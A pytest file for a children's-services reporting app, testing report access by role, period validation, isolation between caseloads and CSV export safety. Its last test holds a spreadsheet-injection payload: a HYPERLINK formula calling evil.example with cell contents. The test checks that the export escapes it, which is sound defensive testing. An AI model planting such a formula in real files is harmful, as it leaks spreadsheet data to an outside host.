"""Who may see which figures: managers the council, an IRO their own caseload, nobody else anything."""

import csv
import io
import json
from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from complaints.services import complaint_make
from consultations.models import ChildContact, Invitation, Response
from consultations.services import forms_sync_from_files, invitations_create_for_review
from feedback.service_feedback import feedback_give, feedback_requests_create
from feedback.services import statement_submit
from reporting.periods import Period
from reporting.selectors import report_for_user, report_names_for
from reviews.models import Review, ReviewParent
from reviews.services import practice_alert_raise
from tests.conftest import client_for


@pytest.fixture
def held_reviews(child, other_child):
    for record, code in ((child, "PN1"), (other_child, "PN7")):
        Review.objects.filter(child=record).update(held_on=date(2025, 9, 20), participation_code=code)


def _pn(table: dict, code: str) -> int:
    return next(row["count"] for row in table["rows"] if row["label"].startswith(code))


def test_a_manager_sees_the_whole_council_and_an_iro_only_their_caseload(held_reviews, manager, iro):
    query = "?from=2025-04-01&to=2026-03-31"
    council = client_for(manager).get(f"/api/v1/reports/participation/{query}").json()
    mine = client_for(iro).get(f"/api/v1/reports/participation/{query}").json()
    assert (_pn(council, "PN1"), _pn(council, "PN7")) == (1, 1)
    assert (_pn(mine, "PN1"), _pn(mine, "PN7")) == (1, 0)


def test_manager_only_figures_are_404_to_an_iro(manager, iro):
    assert client_for(manager).get("/api/v1/reports/caseloads/").status_code == 200
    assert client_for(iro).get("/api/v1/reports/caseloads/").status_code == 404
    assert client_for(iro).get(reverse("reporting:report_csv", args=["caseloads"])).status_code == 404
    assert (
        "How many children each IRO has now" not in client_for(iro).get(reverse("reporting:reports")).content.decode()
    )
    assert client_for(iro).get(reverse("reporting:report", args=["caseloads"])).status_code == 404


@pytest.mark.parametrize("who", ["child_user", "advocate", "cicc"])
def test_no_one_else_reaches_any_report(request, who):
    client = client_for(request.getfixturevalue(who))
    assert client.get(reverse("reporting:reports")).status_code == 404
    assert client.get(reverse("reporting:report_csv", args=["participation"])).status_code == 404
    assert client.get("/api/v1/reports/participation/").status_code == 404
    assert client.get(reverse("reporting:ssda903_reviews") + "?year=2025").status_code == 404


def test_the_page_csv_and_ssda903_download(held_reviews, manager):
    client = client_for(manager)
    page = client.get(reverse("reporting:report", args=["participation"]) + "?from=2025-04-01&to=2026-03-31")
    assert page.status_code == 200 and "How children took part in their reviews" in page.content.decode()
    csv = client.get(reverse("reporting:report_csv", args=["participation"]) + "?from=2025-04-01&to=2026-03-31")
    assert csv["Content-Type"] == "text/csv"
    assert csv.content.decode().splitlines()[0].startswith("Group,What is counted,Number,Out of,%")
    export = client.get(reverse("reporting:ssda903_reviews") + "?year=2026").content.decode().splitlines()
    assert export[0] == "CHILD,DOB,REVIEW,REVIEW_CODE" and len(export) == 3


@pytest.mark.parametrize(
    "query",
    [
        "?from=2025-02-30&to=2026-01-01",
        "?from=2026-04-01&to=2025-04-01",
        "?from=2025-04-01",
        "?from=0001-01-01&to=0001-01-05",
        "?from=9999-12-01&to=9999-12-31",
        "?from=1899-12-31&to=1900-01-31",
    ],
)
def test_a_wrong_period_gets_a_clear_400(manager, query):
    assert client_for(manager).get(reverse("reporting:report", args=["participation"]) + query).status_code == 400
    response = client_for(manager).get("/api/v1/reports/participation/" + query)
    assert response.status_code == 400
    assert json.loads(response.content)


def test_an_unknown_report_is_404(manager):
    assert client_for(manager).get("/api/v1/reports/everything/").status_code == 404
    assert client_for(manager).get(reverse("reporting:ssda903_reviews") + "?year=soon").status_code == 400


WELLBEING_ANSWER = {"home_feeling": "happy", "trusted_adult": "yes"}


@pytest.mark.usefixtures("pinned_clock")  # what is said now falls in the fixed period below
def test_an_iro_counts_nothing_of_another_iros_children_in_any_report(other_child, other_child_user, other_iro, iro):
    forms_sync_from_files()
    review = Review.objects.get(child=other_child)
    invitations_create_for_review(review=review)
    # The child's own form, with a wellbeing answer, for the wellbeing report.
    own = Invitation.objects.get(review=review, contact__isnull=True)
    Response.objects.create(invitation=own, version=own.version, answers=WELLBEING_ANSWER, submitted_at=timezone.now())
    Review.objects.filter(pk=review.pk).update(held_on=date(2025, 9, 20), participation_code="PN1")

    review.refresh_from_db()

    parent = ChildContact.objects.create(child=other_child, role="parent", name="P", email="p@example.org")
    ReviewParent.objects.create(review=review, contact=parent, consulted=True, took_part=False)
    asked = feedback_requests_create(review=review)[0]
    feedback_give(request=asked, listened="yes", made_difference="partly", better="", channel="web")
    statement_submit(author=other_child_user, child=other_child, category="school", body="x", channel="web")
    practice_alert_raise(
        child=other_child, user=other_iro, category="drift", description="x", raised_on=date(2025, 9, 1)
    )
    complaint_make(child=other_child, by=other_child_user, words="x", channel="web")
    everything = Period(date(2020, 1, 1), date(2027, 12, 31))
    for name in report_names_for(iro):
        table = report_for_user(iro, name, everything)
        assert all(row.count == 0 and row.base == 0 for row in table.rows), name
        # ...while the same figures for their own IRO are not empty: the test would see a leak.
        assert any(row.count or row.base for row in report_for_user(other_iro, name, everything).rows), name


@pytest.mark.usefixtures("pinned_clock")  # the review was held in the fixed period asked for
def test_a_formula_typed_into_a_late_reason_comes_out_of_the_csv_as_text(child, manager):
    review = Review.objects.get(child=child)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    Review.objects.filter(pk=review.pk).update(
        held_on=review.due_by + timedelta(days=3), participation_code="PN1", late_reason=formula
    )
    rows = client_for(manager).get(
        reverse("reporting:report_csv", args=["timeliness"]) + "?from=2025-04-01&to=2026-03-31"
    )
    cells = [cell for row in csv.reader(io.StringIO(rows.content.decode())) for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert not any(cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit() for cell in cells)
